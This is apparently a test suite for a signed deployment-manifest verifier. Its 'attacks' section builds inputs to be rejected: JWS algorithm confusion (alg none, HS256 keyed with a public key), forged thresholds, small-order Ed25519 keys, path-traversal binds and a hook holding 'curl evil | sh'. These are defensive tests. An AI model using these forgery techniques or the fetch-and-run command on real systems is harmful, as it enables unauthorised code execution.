import { describe, expect, it, beforeAll } from "vitest";
import { generateKeyPairSync, sign as nodeSign, createHmac, createPublicKey, type KeyObject } from "node:crypto";
import { mkdtempSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import * as jose from "jose";
import type { KeyAlgorithm, KeyInfo, KeyRef, KeyStore, PublicKeyExport, SignatureScheme } from "../hsm/index.js";
import {
  addSignature,
  ManifestStateStore,
  MANIFEST_LIMITS,
  MANIFEST_TYP,
  signManifest,
  verifyManifest,
  type GeneralJws,
  type JwsSigner,
  type Manifest,
  type Policy,
  type TrustRoot,
  type Verdict,
} from "./index.js";
import { signerFromKeyFile, signerFromKeyStore } from "./sign.js";
import { verifyTrustRootRotation } from "./trust-root.js";
import type { TrustKey } from "./schema.js";
import { DIGEST, FIXTURE_NOW, FIXTURE_POLICY_YAML, fixturePolicy, makeManifest, makeSigner, makeSigners, makeTrustRoot } from "./fixtures.js";

let signers: JwsSigner[];
let root: TrustRoot;
let policy: Policy;
const now = FIXTURE_NOW;

async function signed(m: Manifest, by: JwsSigner[] = signers.slice(0, 2)): Promise<GeneralJws> {
  let jws = await signManifest(m, by[0] as JwsSigner);
  for (const s of by.slice(1)) jws = await signManifest(jws, s);
  return jws;
}

function verify(jws: GeneralJws | string, over: Partial<Parameters<typeof verifyManifest>[1]> = {}): Promise<Verdict> {
  return verifyManifest(typeof jws === "string" ? jws : JSON.stringify(jws), { policy, trustRoot: root, deviceId: "dev-1", now, ...over });
}

function checks(v: Verdict): string[] {
  return v.reasons.map((r) => r.check);
}

function b64json(v: unknown): string {
  return jose.base64url.encode(JSON.stringify(v));
}

beforeAll(async () => {
  signers = await makeSigners();
  root = (await makeTrustRoot(signers)).root;
  policy = fixturePolicy();
});

describe("manifest verification: the good path", () => {
  it("accepts a 2-of-3 signed manifest targeted at this device, returns signers and decisions", async () => {
    const v = await verify(await signed(makeManifest()));
    expect(v.reasons).toEqual([]);
    expect(v.ok).toBe(true);
    expect(v.manifest?.version).toBe(5);
    expect(v.signers).toHaveLength(2);
    expect(v.decisions.every((d) => d.allowed)).toBe(true);
  });
  it("accepts each accepted algorithm pair (ES384 + EdDSA)", async () => {
    const v = await verify(await signed(makeManifest(), [signers[1] as JwsSigner, signers[2] as JwsSigner]));
    expect(v.ok).toBe(true);
  });
  it("persists the accepted version atomically and the state blocks the next replay", async () => {
    const dir = mkdtempSync(join(tmpdir(), "et-state-"));
    const store = new ManifestStateStore(join(dir, "state.json"));
    expect(store.read()).toBeUndefined();
    const jws = await signed(makeManifest());
    const v = await verify(jws, { state: store.read() });
    expect(v.ok).toBe(true);
    store.accept(v, "dev-1", now);
    expect(store.read()?.version).toBe(5);
    const again = await verify(jws, { state: store.read() });
    expect(checks(again)).toEqual(["replay"]);
    // Re-verifying the accepted manifest itself at boot is allowed only when explicitly asked and byte-identical.
    expect((await verify(jws, { state: store.read(), reloadAccepted: true })).ok).toBe(true);
    const other = await signed(makeManifest({ deploymentId: "dep-other" }));
    expect(checks(await verify(other, { state: store.read(), reloadAccepted: true }))).toEqual(["replay"]);
  });
  it("a corrupt state file fails closed", () => {
    const dir = mkdtempSync(join(tmpdir(), "et-state-"));
    writeFileSync(join(dir, "s.json"), "{not json");
    expect(() => new ManifestStateStore(join(dir, "s.json")).read()).toThrow(/MANIFEST_STATE_INVALID|unreadable/);
  });
  it("signs from a PEM key file", async () => {
    const dir = mkdtempSync(join(tmpdir(), "et-key-"));
    const { privateKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
    writeFileSync(join(dir, "k.pem"), privateKey.export({ type: "pkcs8", format: "pem" }));
    const s = await signerFromKeyFile(join(dir, "k.pem"));
    const r = (await makeTrustRoot([s, ...signers.slice(1)], { signWith: [s, signers[1] as JwsSigner] })).root;
    const v = await verify(await signed(makeManifest(), [s, signers[1] as JwsSigner]), { trustRoot: r });
    expect(v.reasons).toEqual([]);
  });
});

/** A KeyStore over Node KeyObjects (the software/PKCS#11 stores implement the same interface). */
class NodeKeyStore implements KeyStore {
  readonly kind = "software" as const;
  keys = new Map<string, { priv: KeyObject; pub: KeyObject; alg: KeyAlgorithm }>();
  async generateKey(label: string, algorithm: KeyAlgorithm): Promise<KeyInfo> {
    const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: algorithm === "EC-P384" ? "P-384" : "P-256" });
    this.keys.set(label, { priv: privateKey, pub: publicKey, alg: algorithm });
    return this.getKey({ label });
  }
  async getKey(ref: KeyRef): Promise<KeyInfo> {
    const k = this.keys.get(ref.label ?? "");
    if (!k) throw new Error("no key");
    return { label: ref.label ?? "", id: "01", algorithm: k.alg, uri: "mem:", extractable: false, sensitive: true };
  }
  async getPublicKey(ref: KeyRef): Promise<PublicKeyExport> {
    const k = this.keys.get(ref.label ?? "");
    if (!k) throw new Error("no key");
    return { spki: k.pub.export({ type: "spki", format: "der" }), jwk: k.pub.export({ format: "jwk" }) as JsonWebKey, algorithm: k.alg };
  }
  async sign(ref: KeyRef, scheme: SignatureScheme, data: Uint8Array): Promise<Buffer> {
    const k = this.keys.get(ref.label ?? "");
    if (!k) throw new Error("no key");
    return nodeSign(scheme.hash.replace("-", "").toLowerCase(), data, { key: k.priv, dsaEncoding: "ieee-p1363" });
  }
  async list(): Promise<KeyInfo[]> {
    return [];
  }
  async delete(): Promise<void> {}
  async close(): Promise<void> {}
}

describe("signing through the KeyStore interface (HSM path)", () => {
  it("ES256 and ES384 keys in a key store co-sign a manifest that verifies", async () => {
    const store = new NodeKeyStore();
    await store.generateKey("m1", "EC-P256");
    await store.generateKey("m2", "EC-P384");
    const a = await signerFromKeyStore(store, { label: "m1" });
    const b = await signerFromKeyStore(store, { label: "m2" });
    const r = (await makeTrustRoot([a, b], { signWith: [a, b] })).root;
    const v = await verify(await signed(makeManifest(), [a, b]), { trustRoot: r });
    expect(v.reasons).toEqual([]);
    expect(v.ok).toBe(true);
  });
  it("refuses a second signature by the same key", async () => {
    const jws = await signed(makeManifest(), [signers[0] as JwsSigner]);
    await expect(signManifest(jws, signers[0] as JwsSigner)).rejects.toThrow(/already signed/);
  });
});

describe("attacks: each must be rejected", () => {
  it("rollback to an older version", async () => {
    const v = await verify(await signed(makeManifest({ version: 4 })), { state: { deviceId: "dev-1", deploymentId: "dep-1", version: 5, payloadDigest: "0".repeat(64), acceptedAt: now.toISOString() } });
    expect(v.ok).toBe(false);
    expect(checks(v)).toEqual(["rollback"]);
  });
  it("replay of the same version", async () => {
    const v = await verify(await signed(makeManifest({ version: 5 })), { state: { deviceId: "dev-1", deploymentId: "dep-1", version: 5, payloadDigest: "0".repeat(64), acceptedAt: now.toISOString() } });
    expect(v.ok).toBe(false);
    expect(checks(v)).toEqual(["replay"]);
  });
  it("an expired manifest, judged against one frozen reference time", async () => {
    const m = makeManifest({ issuedAt: "2026-01-01T00:00:00Z", expiresAt: "2026-01-15T11:59:59Z" });
    const v = await verify(await signed(m));
    expect(checks(v)).toEqual(["expired"]);
    expect(v.checkedAt).toBe(now.toISOString());
    // one millisecond before expiry at the frozen time: fine
    expect((await verify(await signed(m), { now: new Date("2026-01-15T11:59:58.999Z") })).ok).toBe(true);
  });
  it("a manifest issued in the future", async () => {
    const v = await verify(await signed(makeManifest({ issuedAt: "2026-01-16T00:00:00Z", expiresAt: "2026-03-01T00:00:00Z" })));
    expect(checks(v)).toEqual(["not-yet-valid"]);
  });
  it("a signature lifted from another manifest (mix-and-match)", async () => {
    const a = await signed(makeManifest({ version: 6 }), [signers[0] as JwsSigner]);
    const b = await signed(makeManifest({ version: 7 }), [signers[1] as JwsSigner]);
    const mixed: GeneralJws = { payload: a.payload, signatures: [...a.signatures, ...b.signatures] };
    const v = await verify(mixed);
    expect(v.ok).toBe(false);
    expect(checks(v)).toContain("signature");
    expect(checks(v)).toContain("threshold");
    expect(v.signers).toHaveLength(1);
  });
  it("one key signing twice to fake a threshold", async () => {
    const one = await signed(makeManifest(), [signers[0] as JwsSigner]);
    // ECDSA is randomised: a second, different, valid signature by the same key.
    const again = await signed(makeManifest(), [signers[0] as JwsSigner]);
    expect(again.payload).toBe(one.payload);
    const v = await verify({ payload: one.payload, signatures: [...one.signatures, ...again.signatures] });
    expect(v.ok).toBe(false);
    expect(v.signers).toHaveLength(1);
    expect(checks(v)).toContain("threshold");
    // and the verbatim copy of the same signature too
    const v2 = await verify({ payload: one.payload, signatures: [...one.signatures, ...one.signatures] });
    expect(v2.ok).toBe(false);
  });
  it("a key the trust root does not list", async () => {
    const stranger = await makeSigner("ES256");
    const v = await verify(await signed(makeManifest(), [signers[0] as JwsSigner, stranger]));
    expect(v.ok).toBe(false);
    expect(checks(v)).toEqual(["threshold"]);
    expect(v.warnings.map((w) => w.message).join()).toMatch(/not a trusted key/);
    // the stranger reusing a trusted kid is a bad signature by that key
    const forged = await signManifest(await signed(makeManifest(), [signers[0] as JwsSigner]), { ...stranger, kid: (signers[1] as JwsSigner).kid, publicKey: stranger.publicKey });
    const v2 = await verify(forged);
    expect(v2.ok).toBe(false);
  });

  async function withHeader(header: Record<string, unknown> | string, sigBytes?: (input: string) => Uint8Array): Promise<Verdict> {
    const good = await signed(makeManifest(), [signers[0] as JwsSigner]);
    const protectedB64 = typeof header === "string" ? jose.base64url.encode(header) : b64json(header);
    const input = `${protectedB64}.${good.payload}`;
    const signature = sigBytes ? jose.base64url.encode(sigBytes(input)) : "";
    return verify({ payload: good.payload, signatures: [...good.signatures, { protected: protectedB64, signature }] });
  }

  it("alg: none", async () => {
    const v = await withHeader({ alg: "none", kid: (signers[1] as JwsSigner).kid, typ: "edgetrust-manifest+jws" });
    expect(v.ok).toBe(false);
    expect(v.signers).toHaveLength(1);
  });
  it("HS256 keyed with the signer's public key", async () => {
    const s = signers[1] as JwsSigner;
    const pubBytes = Buffer.from(JSON.stringify(s.publicKey));
    const v = await withHeader({ alg: "HS256", kid: s.kid, typ: "edgetrust-manifest+jws" }, (input) => createHmac("sha256", pubBytes).update(input).digest());
    expect(v.ok).toBe(false);
    expect(v.reasons.map((r) => r.message).join()).toMatch(/alg "HS256" does not match/);
    // and keyed with the PEM of the public key (the classic RS/HS confusion)
    const pem = createPublicKey({ key: { ...s.publicKey }, format: "jwk" }).export({ type: "spki", format: "pem" });
    const v2 = await withHeader({ alg: "HS256", kid: s.kid, typ: "edgetrust-manifest+jws" }, (input) => createHmac("sha256", pem).update(input).digest());
    expect(v2.ok).toBe(false);
    expect(v2.signers).toHaveLength(1);
  });
  it("an alg that does not match the key (ES384 header on the ES256 key, real ES384 signature by another key)", async () => {
    const good = await signed(makeManifest(), [signers[0] as JwsSigner]);
    const es384 = signers[1] as JwsSigner;
    // sign with the ES384 key but claim the ES256 key's kid
    const forged = await signManifest(good, { ...es384, kid: (signers[0] as JwsSigner).kid + "x" });
    const last = forged.signatures[1];
    if (!last) throw new Error("no signature");
    const hdr = JSON.parse(Buffer.from(last.protected, "base64url").toString()) as Record<string, unknown>;
    const v = await withHeader({ ...hdr, kid: (signers[2] as JwsSigner).kid }, () => Buffer.from(last.signature, "base64url"));
    expect(v.ok).toBe(false);
    expect(v.reasons.map((r) => r.message).join()).toMatch(/does not match key/);
  });
  it("a manifest for another device", async () => {
    const v = await verify(await signed(makeManifest({ targets: ["dev-9"] })));
    expect(checks(v)).toEqual(["target"]);
  });
  it("an image by tag", async () => {
    const m = makeManifest();
    (m.modules.sensor as Manifest["modules"][string]).image = "127.0.0.1:5000/edgetrust/sensor:latest";
    const v = await verify(await signed(m));
    expect(checks(v)).toEqual(["image"]);
    // digest pinning is never relaxed, even in audit mode
    const audit = await verify(await signed(m), { policy: { ...policy, mode: "audit" } });
    expect(checks(audit)).toEqual(["image"]);
  });
  it("an image from a registry not allowed", async () => {
    const m = makeManifest();
    (m.modules.sensor as Manifest["modules"][string]).image = `docker.io/library/busybox@sha256:${DIGEST}`;
    const v = await verify(await signed(m));
    expect(checks(v)).toEqual(["image"]);
    expect(v.reasons[0]?.message).toMatch(/registry docker.io is not allowed/);
  });
  it("a privileged module", async () => {
    const m = makeManifest();
    const s = m.modules.sensor as Manifest["modules"][string];
    s.options = { ...s.options, privileged: true };
    const v = await verify(await signed(m));
    expect(checks(v)).toEqual(["module-options"]);
    expect(v.reasons[0]?.message).toMatch(/privileged is not allowed/);
  });
  it("a bind outside the allow-list (and a traversal that looks inside)", async () => {
    for (const bind of ["/etc:/host-etc:ro", "/var/lib/edgetrust/data/sensor/../../../../etc:/data:rw", "/var/lib/edgetrust/data/mod1:/data:rw", "/etc/edgetrust/shared/x:/x:rw"]) {
      const m = makeManifest();
      const s = m.modules.sensor as Manifest["modules"][string];
      s.options = { ...s.options, binds: [bind] };
      const v = await verify(await signed(m));
      expect(checks(v), bind).toEqual(["module-options"]);
    }
  });
  /** The sensor module of a fresh fixture manifest with `options` merged into its (allowed) options. */
  function asking(options: Partial<NonNullable<Manifest["modules"][string]["options"]>>, module = "sensor"): Manifest {
    const m = makeManifest();
    const s = m.modules[module] as Manifest["modules"][string];
    s.options = { ...s.options, ...options };
    return m;
  }

  it("host network when policy does not grant it", async () => {
    // This policy grants bridge and none, not host; every module of the fixture manifest asks for host.
    const p = fixturePolicy(FIXTURE_POLICY_YAML.replace("network: [host, none]", "network: [bridge, none]"));
    const v = await verify(await signed(makeManifest()), { policy: p });
    expect(v.ok).toBe(false);
    expect(checks(v)).toEqual(["module-options", "module-options"]);
    expect(v.reasons.map((r) => r.message).join("\n")).toMatch(/module sensor: network host is not allowed \(allowed: bridge, none\) \[modules\.defaults\.network\]/);
    // the denial is about host alone: the same manifest asking bridge (or nothing, i.e. none) is accepted
    const bridge = makeManifest();
    for (const mod of Object.values(bridge.modules)) mod.options = { ...mod.options, network: "bridge" };
    expect((await verify(await signed(bridge), { policy: p })).reasons).toEqual([]);
    const none = makeManifest();
    for (const mod of Object.values(none.modules)) delete mod.options?.network;
    expect((await verify(await signed(none), { policy: p })).reasons).toEqual([]);
    // with no network key at all in policy, only none is granted
    const bare = fixturePolicy(FIXTURE_POLICY_YAML.replace("    network: [host, none]\n", ""));
    expect(checks(await verify(await signed(bridge), { policy: bare }))).toEqual(["module-options", "module-options"]);
  });
  it("a device policy does not grant (another module's device, an unlisted device, a traversal)", async () => {
    // sanity: sensor's override grants /dev/ttyUSB*
    expect((await verify(await signed(asking({ devices: ["/dev/ttyUSB0"] })))).reasons).toEqual([]);
    for (const [module, device] of [
      ["mod1", "/dev/ttyUSB0"], // granted to sensor only; mod1 has the defaults (no devices)
      ["sensor", "/dev/sda"],
      ["sensor", "/dev/ttyUSB0/../sda"],
      ["sensor", "/dev/sda:/dev/ttyUSB0"], // the host side is what counts
      ["sensor", "/dev/mem"],
    ] as const) {
      const v = await verify(await signed(asking({ devices: [device] }, module)));
      expect(v.ok, `${module} ${device}`).toBe(false);
      expect(checks(v), `${module} ${device}`).toEqual(["module-options"]);
      expect(v.reasons[0]?.message, device).toMatch(new RegExp(`^module ${module}: device .* is not in the allow-list`));
    }
  });
  it("a capability policy does not grant", async () => {
    expect((await verify(await signed(asking({ capabilities: ["CAP_NET_BIND_SERVICE"] })))).reasons).toEqual([]);
    for (const [module, cap] of [["sensor", "CAP_SYS_ADMIN"], ["mod1", "CAP_NET_BIND_SERVICE"]] as const) {
      const v = await verify(await signed(asking({ capabilities: [cap] }, module)));
      expect(checks(v), `${module} ${cap}`).toEqual(["module-options"]);
      expect(v.reasons[0]?.message).toMatch(`capability ${cap} is not in the allow-list`);
    }
  });
  it("unknown fields in a manifest signed by the threshold (top level, module, options, __proto__)", async () => {
    const good = makeManifest();
    type Obj = Record<string, unknown>;
    const sensor = (m: Obj): Obj => (m.modules as Record<string, Obj>).sensor as Obj;
    const opts = (m: Obj): Obj => sensor(m).options as Obj;
    const variants: [string, (m: Obj) => void][] = [
      ["top-level hooks", (m) => (m.hooks = { preStart: "curl evil | sh" })],
      ["module command", (m) => (sensor(m).command = ["sh", "-c", "id"])],
      ["options pidMode", (m) => (opts(m).pidMode = "host")],
      ["options securityOpt", (m) => (opts(m).securityOpt = ["seccomp=unconfined"])],
      ["options cgroupParent", (m) => (opts(m).cgroupParent = "/")],
    ];
    const texts = variants.map(([what, change]) => {
      const m = JSON.parse(JSON.stringify(good)) as Obj;
      change(m);
      return [what, JSON.stringify(m)] as const;
    });
    // "__proto__" as a JSON key is an own property after JSON.parse: it must not slip past the closed schema.
    texts.push(["options __proto__", JSON.stringify(good).replace('"options":{', '"options":{"__proto__":{"privileged":true},')]);
    for (const [what, text] of texts) {
      // signed by two trusted keys without signManifest's validation: only the verifier's schema stands in the way
      let jws = await addSignature({ payload: new TextEncoder().encode(text) }, signers[0] as JwsSigner, MANIFEST_TYP);
      jws = await addSignature({ jws }, signers[1] as JwsSigner, MANIFEST_TYP);
      const v = await verify(jws);
      expect(v.signers, what).toHaveLength(2);
      expect(v.ok, what).toBe(false);
      expect(checks(v), what).toEqual(["schema"]);
      expect(v.reasons[0]?.message, what).toMatch(`unknown key "${what.split(" ").pop() ?? ""}"`);
      expect(v.manifest, what).toBeUndefined();
    }
    // and unknown members of the JWS envelope itself
    const j = await signed(makeManifest());
    expect(checks(await verify(JSON.stringify({ ...j, header: { kid: "x" } })))).toEqual(["format"]);
    expect(checks(await verify(JSON.stringify({ ...j, signatures: j.signatures.map((x) => ({ ...x, extra: 1 })) })))).toEqual(["format"]);
  });
  it("a trust root listing a small-order Ed25519 key (universal forgery under OpenSSL) is refused", async () => {
    // Under the identity point A, R = A and S = 0 satisfy the cofactorless check for every message: WebCrypto says yes.
    const identity = Buffer.from("01".padEnd(64, "0"), "hex");
    const raw = await crypto.subtle.importKey("raw", identity, { name: "Ed25519" }, false, ["verify"]);
    const forged = Buffer.concat([identity, Buffer.alloc(32)]);
    expect(await crypto.subtle.verify({ name: "Ed25519" }, raw, forged, Buffer.from("anything"))).toBe(true);
    // Our key path refuses the key, so the forgery counts for nothing...
    const bad = { kid: "small", alg: "EdDSA" as const, kty: "OKP" as const, crv: "Ed25519" as const, x: identity.toString("base64url") };
    const { signTrustRoot } = await import("./index.js");
    const { rawVerify } = await import("./jws.js");
    expect(await rawVerify("EdDSA", bad, forged, Buffer.from("anything"))).toBe(false);
    const m = await signed(makeManifest(), [signers[0] as JwsSigner]);
    const hdr = b64json({ alg: "EdDSA", kid: "small", typ: MANIFEST_TYP });
    const v = await verify({ payload: m.payload, signatures: [...m.signatures, { protected: hdr, signature: forged.toString("base64url") }] }, { trustRoot: { ...root, body: { ...root.body, keys: [...root.body.keys, bad] } } });
    expect(v.ok).toBe(false);
    expect(v.reasons.map((r) => r.message).join()).toMatch(/small order/);
    // ...and a trust root listing it (or any of the 8 small-order points, or a non-canonical y) is not signed at all.
    for (const x of ["0100000000000000000000000000000000000000000000000000000000000080", "ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f", "0000000000000000000000000000000000000000000000000000000000000000", "c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa", "26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05", "eeffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f"]) {
      const body = { type: "edgetrust-trust-root" as const, version: 1, expires: "2027-01-01T00:00:00Z", threshold: 1, keys: [signers[0]?.publicKey as TrustKey, { ...bad, x: Buffer.from(x, "hex").toString("base64url") }] };
      await expect(signTrustRoot(body, signers[0] as JwsSigner), x).rejects.toThrow(/small order|non-canonical/);
    }
  });
  it("in audit mode, a policy denial (not a trust failure) is a warning", async () => {
    const m = makeManifest();
    const s = m.modules.sensor as Manifest["modules"][string];
    s.options = { ...s.options, privileged: true };
    const v = await verify(await signed(m), { policy: { ...policy, mode: "audit" } });
    expect(v.ok).toBe(true);
    expect(v.warnings.map((w) => w.check)).toContain("module-options");
  });
  it("an oversized manifest (whole JWS, payload, module count, field length)", async () => {
    const huge = "x".repeat(MANIFEST_LIMITS.maxJwsBytes + 1);
    expect(checks(await verify(huge))).toEqual(["size"]);
    const good = await signed(makeManifest(), [signers[0] as JwsSigner]);
    const big = jose.base64url.encode("{" + " ".repeat(MANIFEST_LIMITS.maxPayloadBytes) + "}");
    expect(JSON.stringify({ payload: big, signatures: good.signatures }).length).toBeLessThan(MANIFEST_LIMITS.maxJwsBytes);
    expect(checks(await verify({ payload: big, signatures: good.signatures }))).toEqual(["size"]);
    const many = makeManifest({}, MANIFEST_LIMITS.maxModules + 1);
    await expect(signManifest(many, signers[0] as JwsSigner)).rejects.toThrow(/modules/);
    const m = makeManifest();
    (m.modules.sensor as Manifest["modules"][string]).env = { BIG: "y".repeat(MANIFEST_LIMITS.maxEnvValue + 1) };
    await expect(signManifest(m, signers[0] as JwsSigner)).rejects.toThrow(/MANIFEST_INVALID|must NOT have more/);
    const tooManySigs: GeneralJws = { payload: good.payload, signatures: Array.from({ length: MANIFEST_LIMITS.maxSignatures + 1 }, () => good.signatures[0] as GeneralJws["signatures"][number]) };
    expect(checks(await verify(tooManySigs))).toEqual(["format"]);
  });
  it("crit: unknown, duplicate, and duplicate header parameters", async () => {
    const s = signers[1] as JwsSigner;
    const kid = s.kid;
    const signWith = async (header: string): Promise<Verdict> => {
      const good = await signed(makeManifest(), [signers[0] as JwsSigner]);
      const p = jose.base64url.encode(header);
      // a real signature by the trusted key over the crafted header: only the header checks can stop it
      const key = s.joseKey as CryptoKey;
      const sig = new Uint8Array(await crypto.subtle.sign({ name: "ECDSA", hash: "SHA-384" }, key, new TextEncoder().encode(`${p}.${good.payload}`)));
      return verify({ payload: good.payload, signatures: [...good.signatures, { protected: p, signature: jose.base64url.encode(sig) }] });
    };
    // sanity: the same construction with a clean header is accepted
    expect((await signWith(JSON.stringify({ alg: "ES384", kid, typ: "edgetrust-manifest+jws" }))).ok).toBe(true);
    for (const h of [
      JSON.stringify({ alg: "ES384", kid, typ: "edgetrust-manifest+jws", crit: ["exp"], exp: 1 }),
      JSON.stringify({ alg: "ES384", kid, typ: "edgetrust-manifest+jws", crit: ["b64", "b64"], b64: true }),
      `{"alg":"ES384","kid":"${kid}","typ":"edgetrust-manifest+jws","alg":"none"}`,
      `{"alg":"ES384","kid":"${kid}","kid":"other","typ":"edgetrust-manifest+jws"}`,
      JSON.stringify({ alg: "ES384", kid, typ: "edgetrust-manifest+jws", jwk: s.publicKey }),
      JSON.stringify({ alg: "ES384", kid, typ: "edgetrust-trust-root+jws" }),
    ]) {
      const v = await signWith(h);
      expect(v.ok, h).toBe(false);
      expect(checks(v), h).toContain("signature");
    }
  });
  it("an unprotected header member is refused", async () => {
    const good = await signed(makeManifest());
    const withHeader = { payload: good.payload, signatures: good.signatures.map((s) => ({ ...s, header: { kid: "x" } })) };
    expect(checks(await verify(JSON.stringify(withHeader)))).toEqual(["format"]);
  });
  it("returns every reason, not only the first", async () => {
    const m = makeManifest({ version: 1, targets: ["dev-9"], expiresAt: "2026-01-15T01:00:00Z" });
    (m.modules.sensor as Manifest["modules"][string]).image = "docker.io/x:latest";
    const v = await verify(await signed(m, [signers[0] as JwsSigner]), { state: { deviceId: "dev-1", deploymentId: "d", version: 3, payloadDigest: "0".repeat(64), acceptedAt: "x" } });
    expect(new Set(checks(v))).toEqual(new Set(["threshold", "rollback", "expired", "target", "image"]));
  });
  it("an expired trust root", async () => {
    const r = (await makeTrustRoot(signers, { expires: "2026-01-01T00:00:00Z" })).root;
    expect(checks(await verify(await signed(makeManifest()), { trustRoot: r }))).toEqual(["trust-root"]);
  });
});

describe("trust root rotation", () => {
  it("N -> N+1 signed by the thresholds of both is accepted", async () => {
    const fresh = await makeSigners();
    const next = await makeTrustRoot(fresh, { version: 2, signWith: [...signers.slice(0, 2), ...fresh.slice(0, 2)] }).catch(() => undefined);
    // makeTrustRoot parses with the new root's own keys; build the text directly instead
    expect(next).toBeDefined();
    const r = await verifyTrustRootRotation(root, next?.text ?? "", { now });
    expect(r.reasons).toEqual([]);
    expect(r.ok).toBe(true);
    expect(r.root?.body.version).toBe(2);
  });
  it("rotation signed by only the old keys is rejected", async () => {
    const fresh = await makeSigners();
    const { signTrustRoot } = await import("./index.js");
    let jws = await signTrustRoot({ type: "edgetrust-trust-root", version: 2, expires: "2027-01-01T00:00:00Z", threshold: 2, keys: fresh.map((s) => s.publicKey) }, signers[0] as JwsSigner);
    jws = await signTrustRoot(jws, signers[1] as JwsSigner);
    const r = await verifyTrustRootRotation(root, JSON.stringify(jws), { now });
    expect(r.ok).toBe(false);
    expect(r.reasons.join()).toMatch(/new root \(version 2\) keys: 0 of the required 2/);
  });
  it("rotation signed by only the new keys is rejected", async () => {
    const fresh = await makeSigners();
    const next = await makeTrustRoot(fresh, { version: 2 });
    const r = await verifyTrustRootRotation(root, next.text, { now });
    expect(r.ok).toBe(false);
    expect(r.reasons.join()).toMatch(/current root \(version 1\) keys: 0 of the required 2/);
  });
  it("rotation skipping a version, or to the same version, is rejected", async () => {
    for (const version of [1, 3]) {
      const next = await makeTrustRoot(signers, { version });
      const r = await verifyTrustRootRotation(root, next.text, { now });
      expect(r.ok, String(version)).toBe(false);
      expect(r.reasons.join()).toMatch(/not exactly 2/);
    }
  });
  it("an expired new root is rejected", async () => {
    const next = await makeTrustRoot(signers, { version: 2, expires: "2026-01-01T00:00:00Z" });
    expect((await verifyTrustRootRotation(root, next.text, { now })).reasons.join()).toMatch(/expired/);
  });
});

describe("canonical base64url", () => {
  it("the O(1) canonical check agrees with a decode/encode round trip on every short string", async () => {
    const { decodeB64url } = await import("./jws.js");
    const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let n = 0;
    for (let len = 0; len <= 7; len++) {
      for (let i = 0; i < 400; i++) {
        let s = "";
        for (let j = 0; j < len; j++) s += alphabet[(i * 31 + j * 17 + ((i >> 3) * j)) % 64] ?? "A";
        // every possible last character, so the unused-bits rule is exercised exhaustively
        const t = len === 0 ? "" : s.slice(0, -1) + (alphabet[i % 64] ?? "A");
        const roundTrip = len % 4 !== 1 && Buffer.from(t, "base64url").toString("base64url") === t;
        const ours = (() => {
          try {
            decodeB64url(t);
            return true;
          } catch {
            return false;
          }
        })();
        expect(ours, JSON.stringify(t)).toBe(roundTrip);
        n++;
      }
    }
    expect(n).toBe(3200);
    for (const bad of ["AB=", "A+B/", "AB C", "ABC\n"]) expect(() => decodeB64url(bad), bad).toThrow();
  });
});

describe("path checks used by bind and device decisions", () => {
  it("normalAbsPath (one scan) agrees with the split/join definition on every path over a small alphabet", async () => {
    const { normalAbsPath } = await import("./match.js");
    const reference = (p: string): string | undefined => {
      if (!p.startsWith("/")) return undefined;
      const segs = p.split("/").slice(1);
      if (segs.length === 1 && segs[0] === "") return "/";
      for (const s of segs) if (s === "" || s === "." || s === "..") return undefined;
      return "/" + segs.join("/");
    };
    const alphabet = ["/", ".", "a"];
    let n = 0;
    const walk = (p: string): void => {
      expect(normalAbsPath(p), JSON.stringify(p)).toBe(reference(p));
      n++;
      if (p.length < 8) for (const c of alphabet) walk(p + c);
    };
    walk("");
    expect(n).toBe((3 ** 9 - 1) / 2);
  });
});
